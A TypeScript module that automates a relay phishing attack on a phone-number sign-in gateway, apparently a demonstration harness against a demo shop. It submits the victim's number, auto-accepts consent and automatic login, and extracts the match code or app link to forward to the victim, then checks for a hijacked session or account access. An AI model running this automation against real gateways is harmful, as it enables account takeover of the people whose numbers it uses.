import * as v from 'valibot';
import { carrierChoiceOf, type Subscriber } from '../subscriber.ts';
import { RelayBrowser, type Screen } from './relay-browser.ts';

/**
 * What a relay tries to obtain. This is a session at the demo shop (`shop`), the same session by forwarding a link
 * (`link`), or access to the user's account page (`account`).
 */
export const relayGoals = ['shop', 'link', 'account'] as const;
export type Aim = (typeof relayGoals)[number];

/** The state of a relay: its current page and its results. */
export interface RelayView {
  id: string;
  /** The victim's number. */
  phoneNo: string;
  aim: Aim;
  /** Whether the relay's page waits for the phone. */
  waits: boolean;
  /** The heading and language of the relay's current page. */
  title: string;
  language: string;
  /** The number on the relay's screen, which the relay forwards to the victim. */
  match?: string;
  /** The link to the carrier's app, as displayed on the relay's screen. The relay forwards it to the victim. */
  link?: string;
  /** The attributes of the relay's session at the gateway. Missing if there is no session. */
  session?: Record<string, string>;
  /** Whether the relay has automatic login. */
  automaticLogin: boolean;
  /** Whether the relay has access to the user's account page. */
  account: boolean;
}

/** A relay's state between two of its steps. */
export interface Relay extends RelayView {
  /** Its browser's cookies. */
  cookies: string;
  /** The URL of the relay's current page. */
  address: string;
}

const signInPath = '/oauth2/authorize';
const waitPath = `${signInPath}/wait`;
const loginPath = '/auth/login?return_to=/';
const accountPath = '/account';
const accountForm = 'action="/account/sign-in"';
/** Maximum number of forms in a sign-in, including the forms of `/account`, the sign-in, and the consent. */
const maxForms = 4;

/**
 * Starts a sign-in with the victim's number. @param address the URL at which the application starts a login. The
 * default is the shop's login URL.
 */
export async function startRelayAttack(
  origin: string,
  person: Subscriber,
  { aim, address }: { aim: Aim; address?: string | undefined },
): Promise<Relay> {
  const browser = new RelayBrowser(origin, '');
  const first = await browser.open(address ?? (aim === 'account' ? accountPath : loginPath));
  const screen = await fillIn(browser, first, person, aim);
  return look(browser, { id: crypto.randomUUID(), phoneNo: person.phoneNo, aim }, screen);
}

/** Reloads the relay's page, and continues if the phone has responded. */
export async function continueRelay(origin: string, relay: Relay, person: Subscriber): Promise<Relay> {
  const browser = new RelayBrowser(origin, relay.cookies);
  const screen = await fillIn(browser, await browser.open(relay.address), person, relay.aim);
  return look(browser, relay, screen);
}

/**
 * Submits every form until the relay reaches its goal or must wait for the phone. The relay requests automatic
 * login and agrees to everything.
 */
async function fillIn(browser: RelayBrowser, first: Screen, person: Subscriber, aim: Aim): Promise<Screen> {
  const { name, phoneNo, telcoCd } = person;
  let screen = first;
  for (let forms = 0; forms < maxForms; forms += 1) {
    const { pathname } = new URL(screen.address);
    if (screen.status !== 200 || pathname === waitPath) return screen;
    if (aim === 'account' && screen.html.includes(accountForm)) {
      screen = await browser.submit(screen, {});
    } else if (pathname === `${signInPath}/consent`) {
      screen = await browser.submit(screen, { autoLogin: 'Y' });
    } else if (!pathname.startsWith(signInPath)) {
      return screen;
    } else if (aim === 'link') {
      screen = await browser.submit(screen, { start: 'link', telcoCd }, `${signInPath}/start`);
    } else {
      const typed = { name, phoneNo, telcoCd: carrierChoiceOf(person) };
      screen = await browser.submit(screen, { ...typed, autoLogin: 'Y' });
    }
  }
  return screen;
}

const session = v.object({ user: v.record(v.string(), v.unknown()) });

/**
 * Determines what the relay has gained so far. Automatic login is tried first, because it also creates a session.
 */
async function look(
  browser: RelayBrowser,
  { id, phoneNo, aim }: Pick<RelayView, 'id' | 'phoneNo' | 'aim'>,
  screen: Screen,
): Promise<Relay> {
  const waits = new URL(screen.address).pathname === waitPath;
  const automaticLogin = browser.cookies.includes('plid-device') && (await isLoggedInAutomatically(browser));
  const asked = await browser.open('/auth/session');
  const read = asked.status === 200 ? v.safeParse(session, JSON.parse(asked.html)) : undefined;
  const account = await browser.open(accountPath);
  return {
    id,
    phoneNo,
    aim,
    waits,
    automaticLogin,
    ...(await readScreen(screen, aim, waits)),
    ...(read?.success && { session: publicUser(read.output.user) }),
    account: account.status === 200 && !account.html.includes(accountForm),
    cookies: browser.cookies,
    address: screen.address,
  };
}

async function isLoggedInAutomatically(browser: RelayBrowser): Promise<boolean> {
  const { address, status } = await browser.open(loginPath);
  return status === 200 && !new URL(address).pathname.startsWith(signInPath);
}

const publicUser = (user: Record<string, unknown>): Record<string, string> =>
  Object.fromEntries(Object.entries(user).map(([name, value]) => [name, String(value)]));

/** The parts of a page that a relay forwards. */
async function readScreen(
  { html }: Screen,
  aim: Aim,
  waits: boolean,
): Promise<Pick<RelayView, 'title' | 'language' | 'match' | 'link'>> {
  const read = { title: '', language: '', match: '', link: '' };
  const adds = (name: 'title' | 'match') => ({
    text: ({ text }: { text: string }) => {
      read[name] += text;
    },
  });
  const reader = new HTMLRewriter()
    .on('html', {
      element: (element) => {
        read.language = element.getAttribute('lang') ?? '';
      },
    })
    .on('h1', adds('title'))
    .on('strong.match', adds('match'))
    .on('.actions a.button', {
      element: (element) => {
        read.link ||= element.getAttribute('href') ?? '';
      },
    });
  await reader.transform(new Response(html)).arrayBuffer();
  const { title, language, match, link } = read;
  if (!waits) return { title, language };
  return { title, language, ...(match !== '' && { match }), ...(aim === 'link' && link !== '' && { link }) };
}
